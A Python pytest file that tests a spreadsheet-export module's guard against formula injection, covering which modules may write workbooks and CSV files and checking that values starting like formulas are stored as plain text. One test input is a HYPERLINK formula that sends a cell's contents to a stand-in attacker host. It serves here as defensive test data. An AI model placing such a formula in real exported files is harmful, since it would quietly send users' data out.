"""Every spreadsheet the app writes goes through tracker.domain.exchange.cells (no formula injection)."""

from __future__ import annotations

import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from tracker.domain.exchange import cells

pytestmark = pytest.mark.db_independent  # no database here: make test runs it in the SQLite pass only

ROOT = Path(__file__).resolve().parent.parent
WRITER = ROOT / "tracker/domain/exchange/cells.py"
# The one CSV writer: the calendar's checked days carried in the confirmation form's hidden field
# and read back by the same parser; it never leaves the app as a file.
CSV_WRITERS = {ROOT / "tracker/domain/deadlines/schedule.py"}


def sources():
    for folder in ("tracker", "workers"):
        yield from (ROOT / folder).rglob("*.py")


def test_only_the_cell_writer_builds_a_workbook():
    builders = re.compile(r"\bWorkbook\b|\bWriteOnlyCell\b|xlsxwriter")
    offenders = [p.relative_to(ROOT) for p in sources() if p != WRITER and builders.search(p.read_text())]
    assert offenders == []


def test_no_csv_export_bypasses_the_rule():
    offenders = [p.relative_to(ROOT) for p in sources()
                 if p not in CSV_WRITERS and re.search(r"csv\.(writer|DictWriter)", p.read_text())]
    assert offenders == []


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "-", "=",
                                   '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'])
def test_formula_starts_are_text(value):
    assert cells.looks_like_formula(value)
    book = cells.workbook(write_only=True)
    ws = book.create_sheet("s")
    cells.add_row(ws, [value, 1, -5, None])
    out = io.BytesIO()
    cells.save(book, out)
    back = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    first = back.cell(1, 1)
    assert (first.value, first.data_type, first.quotePrefix) == (value, "s", True)
    assert back.cell(1, 3).value == -5  # a negative number is a number, not text


@pytest.mark.parametrize("value", ["关于=的建议", " =1", "＝1+1", "1-2", "", 5, -5, None])
def test_other_values_are_left_alone(value):
    assert not cells.looks_like_formula(value)
    assert cells.cell(None, value) is value


def test_save_refuses_a_formula_written_around_add_row():
    book = Workbook()
    book.active.append(["=1+1"])
    with pytest.raises(ValueError, match="add_row"):
        cells.save(book)
    book.active["A1"].data_type = "s"
    assert cells.save(book)[:2] == b"PK"
